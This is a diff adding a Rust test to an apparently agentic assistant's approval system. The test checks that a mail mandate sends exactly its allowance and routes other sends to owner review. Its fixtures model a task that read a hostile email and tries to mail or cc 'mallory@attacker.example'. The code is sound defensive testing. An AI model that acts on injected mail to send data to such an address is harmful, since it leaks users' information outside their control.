@@ -12,7 +12,7 @@ use hearth_core::Hearth;
 use hearth_core::store::workspace::MailMessage;
 use hearth_core::tasks::{TaskContext, TaskOutcome};
 use hearth_core::tools::{RunOutcome, StepId, ToolOutput, dispatch};
-use hearth_protocol::approvals::{ProposalDraft, ProposalOrigin};
+use hearth_protocol::approvals::{ProposalDraft, ProposalOrigin, ProposalStatus};
 use hearth_protocol::mandates::{
     MandateGrant, MandateGrantParams, MandateHolder, MandateListParams, MandateRevokeParams, MandateWindow,
 };
@@ -179,6 +179,87 @@ async fn a_mandate_lets_exactly_its_allowance_through_and_the_next_call_outside_
         assert!(matches!(out.outcome, Some(RunOutcome::WaitingApproval(_))), "{origin:?}: {}", out.content);
     }
     assert_eq!(hearth.store().memories().await.unwrap().len(), 2);
+}
+
+fn email(to: &str, n: u32) -> Value {
+    json!({ "tool": "prepare_email", "args": { "to": [to], "subject": format!("Weekly numbers {n}"), "body": "The numbers." } })
+}
+
+/// The proposals still waiting for the owner, as (task, draft).
+async fn waiting_cards(hearth: &Hearth) -> Vec<(Option<String>, ProposalDraft)> {
+    let cards = hearth.approval_list().await.unwrap().into_iter();
+    cards.filter(|c| c.status == ProposalStatus::AwaitingReview).map(|c| (c.task_id, c.draft)).collect()
+}
+
+#[tokio::test]
+async fn a_mail_standing_order_sends_exactly_its_allowance_to_its_recipients_and_nothing_else() {
+    // The mandate the issue names: "may send at most N emails a day to these recipients". A task
+    // that read a hostile mail prepares emails; the gate, not the model, decides which the
+    // order approves. The oracle counts sent messages in the mailbox.
+    let (t, seen, _reached) = hearth_with_handler().await;
+    let hearth = &t.hearth;
+    let friend = || MandateGrant::SendMail { recipients: vec!["Friend <friend@EXAMPLE.com>".into()] };
+    // Two a day to the friend (the grant's address normalized as a draft's is); the third asks.
+    let counted = hearth
+        .tasks()
+        .create(new_task("mail-over-count", &json!({ "calls": [email("friend@example.com", 1), email("friend@example.com", 2), email("friend@example.com", 3)] })))
+        .await
+        .unwrap();
+    let m_count = hearth.mandate_grant(&grant(&counted.id, friend(), 2)).await.unwrap();
+    assert_eq!(m_count.grant, MandateGrant::SendMail { recipients: vec!["friend@example.com".into()] });
+    // The same order never covers another recipient, nor a copy to one.
+    let stranger = hearth
+        .tasks()
+        .create(new_task("mail-stranger", &json!({ "calls": [
+            { "tool": "prepare_email", "args": { "to": ["friend@example.com"], "cc": ["mallory@attacker.example"], "subject": "Copy", "body": "x" } }
+        ] })))
+        .await
+        .unwrap();
+    let m_stranger = hearth.mandate_grant(&grant(&stranger.id, friend(), 5)).await.unwrap();
+    let attacker =
+        hearth.tasks().create(new_task("mail-attacker", &json!({ "calls": [email("mallory@attacker.example", 1)] }))).await.unwrap();
+    hearth.mandate_grant(&grant(&attacker.id, friend(), 5)).await.unwrap();
+
+    run_all(hearth).await;
+
+    let sent = hearth.store().sent_messages().await.unwrap();
+    assert_eq!(sent.len(), 2, "exactly the allowance was sent: {:?}", sent.iter().map(|m| &m.subject).collect::<Vec<_>>());
+    assert!(sent.iter().all(|m| m.to == "friend@example.com" && m.cc.is_empty()), "{sent:?}");
+    assert_eq!(hearth.store().mandate_uses(&m_count.id).await.unwrap().len(), 2);
+    assert!(hearth.store().mandate_uses(&m_stranger.id).await.unwrap().is_empty());
+    let seen = seen.lock().unwrap().clone();
+    let runs: Vec<ToolOutput> = seen.iter().filter(|(id, _)| *id == counted.id).map(|(_, out)| out.clone()).collect();
+    assert_eq!(runs.len(), 3);
+    for out in &runs[..2] {
+        let value: Value = serde_json::from_str(&out.content).unwrap();
+        assert_eq!(value["mandateId"], json!(m_count.id), "{}", out.content);
+        assert_eq!(value["status"], json!("succeeded"), "{}", out.content);
+    }
+    assert!(matches!(runs[2].outcome, Some(RunOutcome::WaitingApproval(_))), "{}", runs[2].content);
+    // Every send outside the order is one card, and the ones it approved name it.
+    let mut waiting: Vec<(Option<String>, Vec<String>)> = waiting_cards(hearth)
+        .await
+        .into_iter()
+        .map(|(task, draft)| match draft {
+            ProposalDraft::EmailSend(email) => (task, email.to.into_iter().chain(email.cc).collect()),
+            other => panic!("expected an email card, got {other:?}"),
+        })
+        .collect();
+    waiting.sort();
+    let mut expected = vec![
+        (Some(counted.id.clone()), vec!["friend@example.com".to_owned()]),
+        (Some(stranger.id.clone()), vec!["friend@example.com".to_owned(), "mallory@attacker.example".to_owned()]),
+        (Some(attacker.id.clone()), vec!["mallory@attacker.example".to_owned()]),
+    ];
+    expected.sort();
+    assert_eq!(waiting, expected);
+    let approved: Vec<_> = hearth.approval_list().await.unwrap().into_iter().filter(|c| c.mandate_id.is_some()).collect();
+    assert_eq!(approved.len(), 2);
+    assert!(approved.iter().all(|c| c.mandate_id.as_deref() == Some(m_count.id.as_str()) && c.status == ProposalStatus::Succeeded));
+    // None of them raised a notice asking for a review; the three cards did.
+    let notices = hearth.store().notifications(100).await.unwrap();
+    let reviews = notices.iter().filter(|n| n.kind == hearth_protocol::notifications::NotificationKind::ReviewNeeded).count();
+    assert_eq!(reviews, 3);
 }
 
 #[tokio::test]
